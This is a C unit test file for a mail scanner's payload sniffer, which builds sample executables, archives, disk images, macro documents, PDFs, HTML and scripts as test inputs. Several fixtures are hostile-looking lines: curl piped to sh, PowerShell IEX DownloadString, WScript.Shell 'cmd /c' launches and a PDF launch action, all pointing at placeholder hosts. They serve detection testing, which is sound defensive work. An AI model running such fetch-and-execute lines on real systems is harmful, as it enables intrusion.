/* test-payload.c — unit tests for the payload sniffer (usc-payload.h):
 * byte buffers built here for every format it recognises (executables,
 * scripts, archives and their members, disk images, macro documents, PDFs,
 * HTML), each against the found type, the executable flag and a part of
 * the reason; whether libmagic was asked; base64 that goes on after a
 * padded chunk; a binary declared message/rfc822.
 */
#include "config.h"
#include <gio/gio.h>
#include <gmime/gmime.h>
#include <string.h>
#include "usc-payload.h"
#include "usc-message.h"

/* ---- builders ---- */

static GByteArray *
bytes (const void *d, gsize n)
{
  GByteArray *b = g_byte_array_new ();
  g_byte_array_append (b, d, (guint) n);
  return b;
}

static void
put16 (GByteArray *b, guint v)
{
  guint8 x[2] = { v & 0xff, (v >> 8) & 0xff };
  g_byte_array_append (b, x, 2);
}

static void
put32 (GByteArray *b, guint32 v)
{
  guint8 x[4] = { v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff, v >> 24 };
  g_byte_array_append (b, x, 4);
}

static void
set32 (GByteArray *b, gsize off, guint32 v)
{
  b->data[off] = v & 0xff;
  b->data[off + 1] = (v >> 8) & 0xff;
  b->data[off + 2] = (v >> 16) & 0xff;
  b->data[off + 3] = v >> 24;
}

static void
pad_to (GByteArray *b, gsize n)
{
  while (b->len < n) {
    guint8 z = 0;
    g_byte_array_append (b, &z, 1);
  }
}

/* An inert PE header: MZ, e_lfanew = 64, "PE\0\0", an i386 machine field. */
static GByteArray *
pe (void)
{
  GByteArray *b = bytes ("MZ\x90\0\x03\0\0\0", 8);
  pad_to (b, 60);
  put32 (b, 64);
  g_byte_array_append (b, (const guint8 *) "PE\0\0\x4c\x01", 6);
  pad_to (b, 200);
  return b;
}

static GByteArray *
deflate_raw (const guint8 *d, gsize n)
{
  GConverter *c = G_CONVERTER (g_zlib_compressor_new (G_ZLIB_COMPRESSOR_FORMAT_RAW, 6));
  guint8 out[65536];
  gsize r, w;
  GError *e = NULL;
  GConverterResult res = g_converter_convert (c, d, n, out, sizeof out, G_CONVERTER_INPUT_AT_END, &r, &w, &e);
  g_assert_no_error (e);
  g_assert_cmpint (res, ==, G_CONVERTER_FINISHED);
  g_object_unref (c);
  return bytes (out, w);
}

static GByteArray *
compress_fmt (const guint8 *d, gsize n, GZlibCompressorFormat fmt)
{
  GConverter *c = G_CONVERTER (g_zlib_compressor_new (fmt, 6));
  GByteArray *b = g_byte_array_new ();
  guint8 out[65536];
  gsize in = 0;
  for (;;) {
    gsize r, w;
    GError *e = NULL;
    GConverterResult res = g_converter_convert (c, d + in, n - in, out, sizeof out, G_CONVERTER_INPUT_AT_END, &r, &w, &e);
    g_assert_no_error (e);
    in += r;
    g_byte_array_append (b, out, (guint) w);
    if (res == G_CONVERTER_FINISHED)
      break;
  }
  g_object_unref (c);
  return b;
}

typedef struct {
  const char *name;
  const guint8 *data;
  gsize len;
  gboolean deflate, encrypt;
} ZipIn;

/* A zip (APPNOTE 6.3): local headers, central directory, end record. */
static GByteArray *
zip (const ZipIn *in, guint n)
{
  GByteArray *z = g_byte_array_new (), *cd = g_byte_array_new ();
  for (guint i = 0; i < n; i++) {
    GByteArray *data = in[i].deflate ? deflate_raw (in[i].data, in[i].len) : bytes (in[i].data, in[i].len);
    guint32 off = z->len;
    guint16 flags = in[i].encrypt ? 1 : 0, method = in[i].deflate ? 8 : 0;
    gsize nl = strlen (in[i].name);
    g_byte_array_append (z, (const guint8 *) "PK\x03\x04", 4);
    put16 (z, 20); put16 (z, flags); put16 (z, method); put32 (z, 0); put32 (z, 0);
    put32 (z, data->len); put32 (z, (guint32) in[i].len); put16 (z, (guint) nl); put16 (z, 0);
    g_byte_array_append (z, (const guint8 *) in[i].name, (guint) nl);
    g_byte_array_append (z, data->data, data->len);
    g_byte_array_append (cd, (const guint8 *) "PK\x01\x02", 4);
    put16 (cd, 20); put16 (cd, 20); put16 (cd, flags); put16 (cd, method); put32 (cd, 0); put32 (cd, 0);
    put32 (cd, data->len); put32 (cd, (guint32) in[i].len); put16 (cd, (guint) nl); put16 (cd, 0); put16 (cd, 0);
    put16 (cd, 0); put16 (cd, 0); put32 (cd, 0); put32 (cd, off);
    g_byte_array_append (cd, (const guint8 *) in[i].name, (guint) nl);
    g_byte_array_unref (data);
  }
  guint32 cdoff = z->len;
  g_byte_array_append (z, cd->data, cd->len);
  g_byte_array_append (z, (const guint8 *) "PK\x05\x06", 4);
  put16 (z, 0); put16 (z, 0); put16 (z, n); put16 (z, n); put32 (z, cd->len); put32 (z, cdoff); put16 (z, 0);
  g_byte_array_unref (cd);
  return z;
}

/* An OLE compound file whose directory (sector 0) holds @names (storages). */
static GByteArray *
ole (const char *const *names)
{
  GByteArray *b = bytes ("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
  pad_to (b, 0x18);
  put16 (b, 0x3e); put16 (b, 3); put16 (b, 0xfffe); put16 (b, 9); put16 (b, 6);
  pad_to (b, 512);
  for (guint i = 0; names[i]; i++) {
    gsize start = b->len, nl = strlen (names[i]);
    for (gsize k = 0; k < nl; k++)
      put16 (b, (guchar) names[i][k]);
    pad_to (b, start + 64);
    put16 (b, (guint) (nl + 1) * 2);
    guint8 type = i == 0 ? 5 : 1;
    g_byte_array_append (b, &type, 1);
    pad_to (b, start + 128);
  }
  pad_to (b, 1024);
  return b;
}

/* A PDF with @body between the header and the trailer. */
static GByteArray *
pdf (const char *body)
{
  GByteArray *b = bytes ("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", 15);
  g_byte_array_append (b, (const guint8 *) body, (guint) strlen (body));
  g_byte_array_append (b, (const guint8 *) "\ntrailer << /Root 1 0 R >>\n%%EOF\n", 33);
  return b;
}

/* A PDF whose only JavaScript is inside a Flate object stream. */
static GByteArray *
pdf_objstm (void)
{
  const char *inner = "2 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>";
  GByteArray *z = compress_fmt ((const guint8 *) inner, strlen (inner), G_ZLIB_COMPRESSOR_FORMAT_ZLIB);
  GByteArray *b = bytes ("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n", 63);
  char *h = g_strdup_printf ("3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %u >>\nstream\n",
                             z->len);
  g_byte_array_append (b, (const guint8 *) h, (guint) strlen (h));
  g_byte_array_append (b, z->data, z->len);
  g_byte_array_append (b, (const guint8 *) "\nendstream\nendobj\n%%EOF\n", 24);
  g_free (h);
  g_byte_array_unref (z);
  return b;
}

/* An ISO 9660 image: the root directory holds SETUP.EXE (a PE) and README.TXT. */
static GByteArray *
iso (void)
{
  GByteArray *b = g_byte_array_new ();
  pad_to (b, 32768);
  g_byte_array_append (b, (const guint8 *) "\x01" "CD001\x01", 7);
  pad_to (b, 32768 + 128);
  put16 (b, 2048); put16 (b, 0x0008);
  pad_to (b, 32768 + 156);
  guint8 root[34] = { 34 };
  g_byte_array_append (b, root, 34);
  set32 (b, 32768 + 156 + 2, 18);
  set32 (b, 32768 + 156 + 10, 2048);
  b->data[32768 + 156 + 25] = 2;
  pad_to (b, 18 * 2048);
  const char *names[] = { "\x00", "\x01", "SETUP.EXE;1", "README.TXT;1" };
  guint32 ext[] = { 18, 18, 19, 20 };
  for (guint i = 0; i < 4; i++) {
    gsize nl = i < 2 ? 1 : strlen (names[i]);
    guint8 rec[64] = { 0 };
    rec[0] = (guint8) (33 + nl + (nl % 2 == 0));
    rec[2] = (guint8) ext[i];
    rec[10] = 200;
    rec[25] = i < 2 ? 2 : 0;
    rec[32] = (guint8) nl;
    memcpy (rec + 33, names[i], nl);
    g_byte_array_append (b, rec, rec[0]);
  }
  pad_to (b, 19 * 2048);
  GByteArray *p = pe ();
  g_byte_array_append (b, p->data, p->len);
  g_byte_array_unref (p);
  pad_to (b, 20 * 2048);
  g_byte_array_append (b, (const guint8 *) "Read me first.\n", 15);
  pad_to (b, 21 * 2048);
  return b;
}

/* A FAT12 floppy image whose root directory holds RUN.BAT. */
static GByteArray *
fat (void)
{
  GByteArray *b = bytes ("\xeb\x3c\x90MSDOS5.0", 11);
  put16 (b, 512);
  guint8 bpb[] = { 1 /* spc */, 1, 0 /* reserved */, 2 /* FATs */, 16, 0 /* root entries */, 64, 0, 0xf0, 1, 0 /* spf */ };
  g_byte_array_append (b, bpb, sizeof bpb);
  pad_to (b, 54);
  g_byte_array_append (b, (const guint8 *) "FAT12   ", 8);
  pad_to (b, 510);
  g_byte_array_append (b, (const guint8 *) "\x55\xaa", 2);
  pad_to (b, 1536);
  guint8 e[32] = "RUN     BAT";
  e[11] = 0x20;
  e[26] = 2;
  e[28] = 30;
  g_byte_array_append (b, e, 32);
  pad_to (b, 2048);
  g_byte_array_append (b, (const guint8 *) "@echo off\r\nstart calc.exe\r\n", 27);
  pad_to (b, 4096);
  return b;
}

/* A tar (ustar) with one member. */
static GByteArray *
tar (const char *name, const char *content)
{
  GByteArray *b = g_byte_array_new ();
  guint8 h[512] = { 0 };
  memcpy (h, name, strlen (name));
  g_snprintf ((char *) h + 124, 12, "%011o", (unsigned) strlen (content));
  h[156] = '0';
  memcpy (h + 257, "ustar\0" "00", 8);
  g_byte_array_append (b, h, 512);
  g_byte_array_append (b, (const guint8 *) content, (guint) strlen (content));
  pad_to (b, 1024 + 1024);
  return b;
}

/* RAR 4: marker, archive header, one stored file. */
static GByteArray *
rar4 (const char *name, const GByteArray *content)
{
  GByteArray *b = bytes ("Rar!\x1a\x07\x00", 7);
  g_byte_array_append (b, (const guint8 *) "\0\0\x73\0\0\x0d\0\0\0\0\0\0\0", 13);
  gsize nl = strlen (name);
  put16 (b, 0);
  guint8 t = 0x74;
  g_byte_array_append (b, &t, 1);
  put16 (b, 0x8000);
  put16 (b, (guint) (32 + nl));
  put32 (b, content->len); put32 (b, content->len);
  guint8 host = 2;
  g_byte_array_append (b, &host, 1);
  put32 (b, 0); put32 (b, 0);
  guint8 ver_method[2] = { 29, 0x30 };
  g_byte_array_append (b, ver_method, 2);
  put16 (b, (guint) nl);
  put32 (b, 0x20);
  g_byte_array_append (b, (const guint8 *) name, (guint) nl);
  g_byte_array_append (b, content->data, content->len);
  g_byte_array_append (b, (const guint8 *) "\0\0\x7b\0\x40\x07\0", 7);
  return b;
}

/* RAR 5: signature, one stored file header (CRC not checked by the sniffer). */
static GByteArray *
rar5 (const char *name, const char *content)
{
  GByteArray *b = bytes ("Rar!\x1a\x07\x01\x00", 8);
  gsize nl = strlen (name), cl = strlen (content);
  guint8 h[64];
  gsize k = 0;
  h[k++] = 2;                 /* type: file */
  h[k++] = 2;                 /* flags: data area */
  h[k++] = (guint8) cl;       /* data size */
  h[k++] = 0;                 /* file flags */
  h[k++] = (guint8) cl;       /* unpacked size */
  h[k++] = 0x20;              /* attributes */
  h[k++] = 0;                 /* compression: stored */
  h[k++] = 0;                 /* host OS */
  h[k++] = (guint8) nl;
  memcpy (h + k, name, nl);
  k += nl;
  put32 (b, 0);
  guint8 hs = (guint8) k;
  g_byte_array_append (b, &hs, 1);
  g_byte_array_append (b, h, (guint) k);
  g_byte_array_append (b, (const guint8 *) content, (guint) cl);
  return b;
}

/* A cabinet with one file. */
static GByteArray *
cab (const char *name)
{
  GByteArray *b = bytes ("MSCF\0\0\0\0", 8);
  put32 (b, 0); put32 (b, 0); put32 (b, 44); put32 (b, 0);
  guint8 v[2] = { 3, 1 };
  g_byte_array_append (b, v, 2);
  put16 (b, 1); put16 (b, 1); put16 (b, 0); put16 (b, 0); put16 (b, 0);
  pad_to (b, 44);
  put32 (b, 100); put32 (b, 0); put16 (b, 0); put16 (b, 0); put16 (b, 0); put16 (b, 0x20);
  g_byte_array_append (b, (const guint8 *) name, (guint) strlen (name) + 1);
  return b;
}

static GByteArray *
utf16 (const char *s)
{
  GByteArray *b = bytes ("\xff\xfe", 2);
  for (; *s; s++)
    put16 (b, (guchar) *s);
  return b;
}

static GByteArray *
text (const char *s)
{
  return bytes (s, strlen (s));
}

/* ---- the table ---- */

typedef struct {
  const char *case_name;
  GByteArray *(*make) (void);
  const char *declared, *name;
  const char *found;      /* exact found_type, or NULL: not checked */
  gboolean    executable;
  const char *why;        /* substring of why, or NULL: why must be NULL */
  gboolean    libmagic;   /* found_type from libmagic */
  const char *member;     /* a member that must be listed, or NULL */
} Case;

static GByteArray *mk_pe (void) { return pe (); }
static GByteArray *mk_elf (void) { GByteArray *b = bytes ("\x7f" "ELF\x02\x01\x01", 7); pad_to (b, 64); return b; }
static GByteArray *mk_macho (void) { GByteArray *b = bytes ("\xcf\xfa\xed\xfe\x07\0\0\x01", 8); pad_to (b, 64); return b; }
static GByteArray *mk_class (void) { GByteArray *b = bytes ("\xca\xfe\xba\xbe\0\0\0\x34", 8); pad_to (b, 64); return b; }
static GByteArray *mk_fat_macho (void) { GByteArray *b = bytes ("\xca\xfe\xba\xbe\0\0\0\x02", 8); pad_to (b, 64); return b; }
static GByteArray *mk_lnk (void)
{
  GByteArray *b = bytes ("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
  pad_to (b, 76);
  return b;
}
static GByteArray *mk_mz_text (void) { return text ("MZ Logistics: your parcel is on its way.\r\nRegards\r\n"); }

static GByteArray *
mk_zip_exe (void)
{
  GByteArray *p = pe ();
  const char *pdfs = "%PDF-1.4\n%%EOF\n";
  ZipIn in[] = { { "scan_0412.pdf", (const guint8 *) pdfs, strlen (pdfs), TRUE, FALSE },
                 { "scan_0412.exe", p->data, p->len, TRUE, FALSE } };
  GByteArray *z = zip (in, 2);
  g_byte_array_unref (p);
  return z;
}
static GByteArray *
mk_zip_disguised (void)
{
  /* the executable named like a document: found by its first bytes */
  GByteArray *p = pe ();
  ZipIn in[] = { { "Rechnung.pdf", p->data, p->len, FALSE, FALSE } };
  GByteArray *z = zip (in, 1);
  g_byte_array_unref (p);
  return z;
}
static GByteArray *
mk_zip_encrypted (void)
{
  ZipIn in[] = { { "invoice.scr", (const guint8 *) "\x12\x34\x56\x78garbage", 11, FALSE, TRUE } };
  return zip (in, 1);
}
static GByteArray *
mk_zip_js (void)
{
  const char *js = "var s = new ActiveXObject('WScript.Shell');\nvar u = 'http://x.invalid/a';\ns.Run('cmd /c start ' + u);\n";
  ZipIn in[] = { { "docs/Invoice.js", (const guint8 *) js, strlen (js), TRUE, FALSE } };
  return zip (in, 1);
}
static GByteArray *
mk_zip_plain (void)
{
  const char *a = "Quarterly figures\n", *b = "\x89PNG\r\n\x1a\n....";
  ZipIn in[] = { { "figures.txt", (const guint8 *) a, strlen (a), TRUE, FALSE },
                 { "chart.png", (const guint8 *) b, 12, FALSE, FALSE } };
  return zip (in, 2);
}
static GByteArray *
mk_docm (void)
{
  const char *ct = "<?xml version=\"1.0\"?><Types/>", *doc = "<w:document/>", *vba = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
  ZipIn in[] = { { "[Content_Types].xml", (const guint8 *) ct, strlen (ct), TRUE, FALSE },
                 { "word/document.xml", (const guint8 *) doc, strlen (doc), TRUE, FALSE },
                 { "word/vbaProject.bin", (const guint8 *) vba, 8, TRUE, FALSE } };
  return zip (in, 3);
}
static GByteArray *
mk_xlsx (void)
{
  const char *ct = "<?xml version=\"1.0\"?><Types/>", *wb = "<workbook/>";
  ZipIn in[] = { { "[Content_Types].xml", (const guint8 *) ct, strlen (ct), TRUE, FALSE },
                 { "xl/workbook.xml", (const guint8 *) wb, strlen (wb), TRUE, FALSE } };
  return zip (in, 2);
}
static GByteArray *
mk_odt_basic (void)
{
  const char *mt = "application/vnd.oasis.opendocument.text", *x = "<script:module/>";
  ZipIn in[] = { { "mimetype", (const guint8 *) mt, strlen (mt), FALSE, FALSE },
                 { "Basic/Standard/Module1.xml", (const guint8 *) x, strlen (x), TRUE, FALSE } };
  return zip (in, 2);
}
static GByteArray *
mk_jar (void)
{
  const char *mf = "Manifest-Version: 1.0\nMain-Class: Main\n";
  ZipIn in[] = { { "META-INF/MANIFEST.MF", (const guint8 *) mf, strlen (mf), TRUE, FALSE } };
  return zip (in, 1);
}
static GByteArray *
mk_ole_vba (void)
{
  static const char *const n[] = { "Root Entry", "WordDocument", "Macros", "VBA", NULL };
  return ole (n);
}
static GByteArray *
mk_ole_xls_vba (void)
{
  static const char *const n[] = { "Root Entry", "Workbook", "_VBA_PROJECT_CUR", NULL };
  return ole (n);
}
static GByteArray *
mk_ole_plain (void)
{
  static const char *const n[] = { "Root Entry", "WordDocument", "1Table", NULL };
  return ole (n);
}
static GByteArray *mk_pdf_plain (void) { return pdf ("1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj"); }
static GByteArray *
mk_pdf_js (void)
{
  return pdf ("1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> endobj");
}
static GByteArray *mk_pdf_hex_js (void) { return pdf ("2 0 obj << /S /J#61vaScript /J#53 (x) >> endobj"); }
static GByteArray *mk_pdf_launch (void) { return pdf ("2 0 obj << /S /Launch /Win << /F (cmd.exe) >> >> endobj"); }
static GByteArray *mk_pdf_objstm (void) { return pdf_objstm (); }
static GByteArray *mk_pdf_junk_head (void) { GByteArray *b = text ("garbage\r\n"); GByteArray *p = mk_pdf_js (); g_byte_array_append (b, p->data, p->len); g_byte_array_unref (p); return b; }
static GByteArray *mk_html_script (void) { return text ("<!DOCTYPE html>\n<html><body><p>Your document</p><script>location='http://x.invalid/'</script></body></html>\n"); }
static GByteArray *
mk_html_autosubmit (void)
{
  return text ("<html><body onload=\"document.forms[0].submit()\"><form action=\"https://login.example.invalid/\" method=\"post\">"
               "<input type=\"hidden\" name=\"u\" value=\"alice\"></form></body></html>\n");
}
static GByteArray *mk_html_handler (void) { return text ("<html><body><img src=x onerror = \"fetch('//x.invalid')\"></body></html>"); }
static GByteArray *mk_html_plain (void) { return text ("<html><body><h1>Agenda</h1><p>Monday: budget; the onion = 5 kg order.</p></body></html>\n"); }
static GByteArray *mk_hta (void) { return text ("<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"></head><body></body></html>"); }
static GByteArray *mk_svg_script (void) { return text ("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"); }
static GByteArray *
mk_js (void)
{
  return text ("var sh = new ActiveXObject(\"WScript.Shell\");\nvar p = sh.ExpandEnvironmentStrings(\"%TEMP%\");\n"
               "sh.Run(\"cmd /c start \" + p + \"\\\\a.exe\", 0);\n");
}
static GByteArray *
mk_vbs (void)
{
  return text ("On Error Resume Next\r\nDim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\", 0\r\n");
}
static GByteArray *
mk_ps_utf16 (void)
{
  return utf16 ("$c = New-Object System.Net.WebClient\r\nIEX($c.DownloadString('http://x.invalid/p'))\r\n");
}
static GByteArray *mk_bat (void) { return text ("@echo off\r\ncd %TEMP%\r\nstart a.exe\r\n"); }
static GByteArray *mk_sh (void) { return text ("#!/bin/sh\ncurl -s http://x.invalid/i | sh\n"); }
static GByteArray *mk_prose (void) { return text ("Dear Alice,\n\nthe function of this var is unclear; see the attached cmd line notes.\n"); }
static GByteArray *mk_code_named_js (void) { return text ("function add(a, b) { return a + b; }\n"); }
static GByteArray *mk_iso (void) { return iso (); }
static GByteArray *mk_fat_img (void) { return fat (); }
static GByteArray *mk_vhd (void) { GByteArray *b = bytes ("conectix\0\0\0\x02", 12); pad_to (b, 512); return b; }
static GByteArray *
mk_tgz (void)
{
  GByteArray *t = tar ("docs/run.ps1", "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x.invalid')\n");
  GByteArray *g = compress_fmt (t->data, t->len, G_ZLIB_COMPRESSOR_FORMAT_GZIP);
  g_byte_array_unref (t);
  return g;
}
static GByteArray *mk_tar_plain (void) { return tar ("notes.txt", "Just notes.\n"); }
static GByteArray *
mk_gz_exe (void)
{
  GByteArray *p = pe ();
  GByteArray *g = compress_fmt (p->data, p->len, G_ZLIB_COMPRESSOR_FORMAT_GZIP);
  g_byte_array_unref (p);
  return g;
}
static GByteArray *
mk_rar4 (void)
{
  GByteArray *p = pe ();
  GByteArray *r = rar4 ("DHL_label.pdf", p);
  g_byte_array_unref (p);
  return r;
}
static GByteArray *mk_rar5 (void) { return rar5 ("invoice.vbs", "Set o = CreateObject(\"WScript.Shell\")\r\n"); }
static GByteArray *mk_cab (void) { return cab ("payload.exe"); }
static GByteArray *mk_7z (void) { GByteArray *b = bytes ("7z\xbc\xaf\x27\x1c\0\x04", 8); pad_to (b, 64); return b; }
static GByteArray *mk_png (void) { GByteArray *b = bytes ("\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR", 16); pad_to (b, 64); return b; }
static GByteArray *mk_jpeg (void) { GByteArray *b = bytes ("\xff\xd8\xff\xe0\0\x10JFIF", 10); pad_to (b, 64); return b; }
static GByteArray *
mk_wav (void)
{
  GByteArray *b = bytes ("RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x44\xac\0\0\x88\x58\x01\0\x02\0\x10\0data\0\0\0\0", 44);
  return b;
}
static GByteArray *mk_empty (void) { return g_byte_array_new (); }

static const Case cases[] = {
  /* executables, whatever they are called */
  { "pe-behind-txt", mk_pe, "text/plain", "invoice.txt", "application/vnd.microsoft.portable-executable", TRUE,
    "a PE executable; behind the name invoice.txt, declared text/plain", FALSE, NULL },
  { "elf", mk_elf, "application/octet-stream", "update", "application/x-executable", TRUE, "an ELF executable", FALSE, NULL },
  { "macho", mk_macho, NULL, "Viewer", "application/x-mach-binary", TRUE, "a Mach-O executable", FALSE, NULL },
  { "java-class", mk_class, NULL, "Main.class", "application/x-java-applet", TRUE, "a Java class", FALSE, NULL },
  { "macho-fat", mk_fat_macho, NULL, NULL, "application/x-mach-binary", TRUE, "universal", FALSE, NULL },
  { "lnk", mk_lnk, "application/octet-stream", "photo.jpg", "application/x-ms-shortcut", TRUE, "shortcut", FALSE, NULL },
  { "mz-text-is-text", mk_mz_text, "text/plain", "note.txt", "text/plain", FALSE, NULL, FALSE, NULL },
  /* archives, one level down */
  { "zip-exe", mk_zip_exe, "application/zip", "scans.zip", "application/zip", TRUE,
    "a zip archive holding scan_0412.exe (a PE executable)", FALSE, "scan_0412.exe" },
  { "zip-disguised-member", mk_zip_disguised, "application/zip", "Rechnung.zip", "application/zip", TRUE,
    "holding Rechnung.pdf (a PE executable)", FALSE, "Rechnung.pdf" },
  { "zip-encrypted-scr", mk_zip_encrypted, "application/zip", "invoice.zip", "application/zip", TRUE,
    "holding invoice.scr (by its name)", FALSE, "invoice.scr" },
  { "zip-js", mk_zip_js, "application/octet-stream", "Invoice.zip", "application/zip", TRUE, "holding docs/Invoice.js", FALSE, NULL },
  { "zip-plain", mk_zip_plain, "application/zip", "figures.zip", "application/zip", FALSE, NULL, FALSE, "chart.png" },
  { "zip-named-pdf", mk_zip_plain, "application/pdf", "figures.pdf", "application/zip", FALSE,
    "is application/zip, behind the name figures.pdf", FALSE, NULL },
  { "tgz-ps1", mk_tgz, "application/gzip", "docs.tgz", "application/gzip", TRUE, "tar archive holding docs/run.ps1", FALSE, "docs/run.ps1" },
  { "gz-exe", mk_gz_exe, "application/gzip", "setup.exe.gz", "application/gzip", TRUE, "a gzip file holding setup.exe (a PE executable)", FALSE, NULL },
  { "tar-plain", mk_tar_plain, "application/x-tar", "notes.tar", "application/x-tar", FALSE, NULL, FALSE, "notes.txt" },
  { "rar4-exe", mk_rar4, "application/x-rar", "label.rar", "application/vnd.rar", TRUE, "a RAR archive holding DHL_label.pdf (a PE executable)", FALSE, NULL },
  { "rar5-vbs", mk_rar5, "application/octet-stream", "invoice.rar", "application/vnd.rar", TRUE, "holding invoice.vbs", FALSE, "invoice.vbs" },
  { "cab-exe", mk_cab, "application/vnd.ms-cab-compressed", "update.cab", "application/vnd.ms-cab-compressed", TRUE,
    "cabinet (.cab) archive holding payload.exe (by its name)", FALSE, "payload.exe" },
  { "7z", mk_7z, "application/x-7z-compressed", "files.7z", "application/x-7z-compressed", FALSE, "a 7z archive", FALSE, NULL },
  /* disk images: mounted on a double click */
  { "iso-exe", mk_iso, "application/octet-stream", "order_details.iso", "application/x-iso9660-image", TRUE,
    "an ISO 9660 disk image holding SETUP.EXE (a PE executable)", FALSE, "README.TXT" },
  { "fat-img", mk_fat_img, "application/octet-stream", "disk.img", "application/x-raw-disk-image", TRUE,
    "a FAT disk image holding RUN.BAT", FALSE, "RUN.BAT" },
  { "vhd", mk_vhd, "application/octet-stream", "disk.vhd", "application/x-vhd", TRUE, "a VHD disk image", FALSE, NULL },
  /* macro documents */
  { "docm-as-docx", mk_docm, "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Invoice.docx",
    "application/vnd.ms-word.document.macroEnabled.12", TRUE, "an Office document with macros (word/vbaProject.bin)", FALSE, NULL },
  { "xlsx-plain", mk_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "budget.xlsx",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", FALSE, NULL, FALSE, NULL },
  { "odt-basic", mk_odt_basic, "application/vnd.oasis.opendocument.text", "letter.odt",
    "application/vnd.oasis.opendocument.text", TRUE, "macros (Basic/ macros)", FALSE, NULL },
  { "jar", mk_jar, "application/java-archive", "app.jar", "application/java-archive", TRUE, "a Java archive", FALSE, NULL },
  { "ole-word-vba", mk_ole_vba, "application/msword", "letter.doc", NULL, TRUE, "an Office document with macros (OLE Macros)", TRUE, NULL },
  { "ole-excel-vba", mk_ole_xls_vba, "application/vnd.ms-excel", "sheet.xls", NULL, TRUE, "(OLE _VBA_PROJECT_CUR)", TRUE, NULL },
  { "ole-plain", mk_ole_plain, NULL, NULL, NULL, FALSE, NULL, TRUE, NULL },
  /* PDFs */
  { "pdf-plain", mk_pdf_plain, "application/pdf", "quote.pdf", "application/pdf", FALSE, NULL, FALSE, NULL },
  { "pdf-js", mk_pdf_js, "application/pdf", "quote.pdf", "application/pdf", TRUE,
    "a PDF with JavaScript, run when opened (/OpenAction)", FALSE, NULL },
  { "pdf-hex-escaped-js", mk_pdf_hex_js, "application/pdf", NULL, "application/pdf", TRUE, "a PDF with JavaScript", FALSE, NULL },
  { "pdf-launch", mk_pdf_launch, "application/pdf", NULL, "application/pdf", TRUE, "a PDF with a launch action", FALSE, NULL },
  { "pdf-objstm-js", mk_pdf_objstm, "application/pdf", NULL, "application/pdf", TRUE, "a PDF with JavaScript, run when opened", FALSE, NULL },
  { "pdf-junk-head", mk_pdf_junk_head, "application/octet-stream", "x.pdf", "application/pdf", TRUE, "JavaScript", FALSE, NULL },
  /* HTML */
  { "html-script", mk_html_script, "text/html", "Document.html", "text/html", TRUE, "HTML with a script (<script>)", FALSE, NULL },
  { "html-autosubmit", mk_html_autosubmit, "text/html", "login.htm", "text/html", TRUE, "an auto-submitting form", FALSE, NULL },
  { "html-handler", mk_html_handler, "text/html", "x.html", "text/html", TRUE, "onerror handler", FALSE, NULL },
  { "html-plain", mk_html_plain, "text/html", "agenda.html", "text/html", FALSE, NULL, FALSE, NULL },
  { "hta", mk_hta, "text/html", "viewer.hta", "application/hta", TRUE, "HTA", FALSE, NULL },
  { "svg-script", mk_svg_script, "image/svg+xml", "logo.svg", "image/svg+xml", TRUE, "SVG with a script", FALSE, NULL },
  /* scripts */
  { "js-named-pdf", mk_js, "application/pdf", "Statement.pdf", "text/javascript", TRUE,
    "a JavaScript (JScript) script (activexobject, wscript., cmd /c); behind the name Statement.pdf, declared application/pdf", FALSE, NULL },
  { "vbs", mk_vbs, "text/plain", "readme.txt", "text/vbscript", TRUE, "a VBScript script", FALSE, NULL },
  { "ps1-utf16", mk_ps_utf16, "application/octet-stream", "report", "application/x-powershell", TRUE, "a PowerShell script", FALSE, NULL },
  { "bat", mk_bat, "text/plain", "setup.txt", "text/x-msdos-batch", TRUE, "a batch (.bat/.cmd) script", FALSE, NULL },
  { "shell", mk_sh, "text/plain", "install.txt", "text/x-shellscript", TRUE, "a script (#!)", FALSE, NULL },
  { "prose-is-no-script", mk_prose, "text/plain", "letter.txt", "text/plain", FALSE, NULL, FALSE, NULL },
  { "code-named-js", mk_code_named_js, "text/plain", "add.js", "text/javascript", TRUE, "a JavaScript (JScript) script", FALSE, NULL },
  /* by name only */
  { "name-double-extension", mk_pdf_plain, "application/pdf", "invoice.pdf.exe", "application/pdf", TRUE,
    "named .exe (Windows runs it by its name)", FALSE, NULL },
  /* harmless, and libmagic only for what the table does not name */
  { "png", mk_png, "image/png", "logo.png", "image/png", FALSE, NULL, FALSE, NULL },
  { "jpeg", mk_jpeg, "image/jpeg", "photo.jpg", "image/jpeg", FALSE, NULL, FALSE, NULL },
  { "wav-libmagic", mk_wav, "audio/x-wav", "voicemail.wav", NULL, FALSE, NULL, TRUE, NULL },
  { "empty", mk_empty, "application/octet-stream", NULL, "application/x-empty", FALSE, NULL, FALSE, NULL },
};

static void
test_table (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++) {
    const Case *c = &cases[i];
    GByteArray *b = c->make ();
    UscPayload *p = usc_payload_sniff (b->data, b->len, c->declared, c->name);
    g_assert_nonnull (p);
    gboolean good = (c->found == NULL || g_strcmp0 (p->found_type, c->found) == 0) && p->executable == c->executable
                    && (c->why ? p->why && strstr (p->why, c->why) : p->why == NULL)
                    && ((p->flags & USC_PAYLOAD_LIBMAGIC) != 0) == c->libmagic;
    if (good && c->member) {
      gboolean seen = FALSE;
      for (guint k = 0; p->members && k < p->members->len; k++)
        seen |= strcmp (((UscPayloadMember *) p->members->pdata[k])->name, c->member) == 0;
      good = seen;
    }
    if (!good)
      g_error ("case %s: found %s, executable %d, why '%s', libmagic %d, %u members; expected %s, %d, '%s', %d, member %s",
